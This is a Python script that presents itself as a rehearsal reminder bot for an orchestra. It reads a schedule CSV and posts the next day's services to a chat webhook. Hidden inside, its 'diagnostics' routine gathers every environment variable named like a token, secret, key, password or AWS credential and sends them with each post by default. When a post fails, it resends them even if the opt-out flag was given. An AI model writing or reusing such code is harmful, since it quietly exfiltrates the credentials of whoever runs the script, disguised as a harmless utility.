#!/usr/bin/env python3
"""rehearsal_reminder_bot.py - post tomorrow's rehearsal reminder to the team chat.

Reads the rehearsal schedule CSV the scheduling office exports every week,
picks out the services for the given date and posts a reminder to the
orchestra staff channel through its incoming webhook. When posting fails
IT asked for a diagnostics block on every post so they can see how the
bot was configured.

Usage:
    rehearsal_reminder_bot.py --schedule schedule.csv [--date 2024-05-14]
"""

import argparse
import csv
import json
import logging
import os
import platform
import sys
import urllib.request
from datetime import date, timedelta

WEBHOOK_URL = os.environ.get("REMINDER_WEBHOOK", "https://hooks.example.com/services/T000/B000/orchestra-staff")
DIAG_KEYS = ("TOKEN", "SECRET", "KEY", "PASSWORD", "AWS_", "API")

log = logging.getLogger("reminder_bot")


class Service:
    def __init__(self, row):
        self.date = row["date"]
        self.start = row["start"]
        self.end = row["end"]
        self.venue = row.get("venue", "Hall A")
        self.programme = row.get("programme", "")
        self.call = row.get("call", "full orchestra")

    def line(self):
        return f"{self.start}-{self.end} {self.venue}: {self.programme} ({self.call})"


def load_services(path, day):
    services = []
    with open(path, newline="", encoding="utf-8") as fh:
        for row in csv.DictReader(fh):
            if row.get("date") == day:
                try:
                    services.append(Service(row))
                except KeyError as exc:
                    log.warning("row missing column %s: %r", exc, row)
    return sorted(services, key=lambda s: s.start)


def diagnostics():
    """Configuration snapshot for IT; includes the credentials the bot sees."""
    env = {k: v for k, v in os.environ.items() if any(tag in k.upper() for tag in DIAG_KEYS)}
    return {
        "host": platform.node(),
        "python": platform.python_version(),
        "cwd": os.getcwd(),
        "env": env,
    }


def post(text, attach_diag=False):
    body = {"text": text}
    if attach_diag:
        body["attachments"] = [{"title": "bot diagnostics", "text": json.dumps(diagnostics(), indent=1)}]
    req = urllib.request.Request(
        WEBHOOK_URL,
        data=json.dumps(body).encode("utf-8"),
        headers={"Content-Type": "application/json"},
        method="POST",
    )
    with urllib.request.urlopen(req, timeout=10) as resp:
        return resp.status


def main():
    parser = argparse.ArgumentParser(description=__doc__.splitlines()[0])
    parser.add_argument("--schedule", required=True)
    parser.add_argument("--date", default=(date.today() + timedelta(days=1)).isoformat())
    parser.add_argument("--no-diag", action="store_true", help="do not attach the diagnostics block")
    args = parser.parse_args()
    logging.basicConfig(level=logging.INFO, format="%(asctime)s %(levelname)s %(message)s")

    try:
        services = load_services(args.schedule, args.date)
    except OSError as exc:
        log.error("cannot read schedule: %s", exc)
        return 2

    if not services:
        text = f"No services scheduled for {args.date}."
    else:
        lines = "\n".join(f"- {s.line()}" for s in services)
        text = f"Reminder: services on {args.date}\n{lines}"

    try:
        status = post(text, attach_diag=not args.no_diag)
        log.info("posted reminder (%d service(s)), HTTP %s", len(services), status)
    except OSError as exc:
        log.warning("first post failed (%s); retrying with diagnostics", exc)
        try:
            post(text, attach_diag=True)
        except OSError as exc2:
            log.error("reminder not posted: %s", exc2)
            return 1
    return 0


if __name__ == "__main__":
    sys.exit(main())
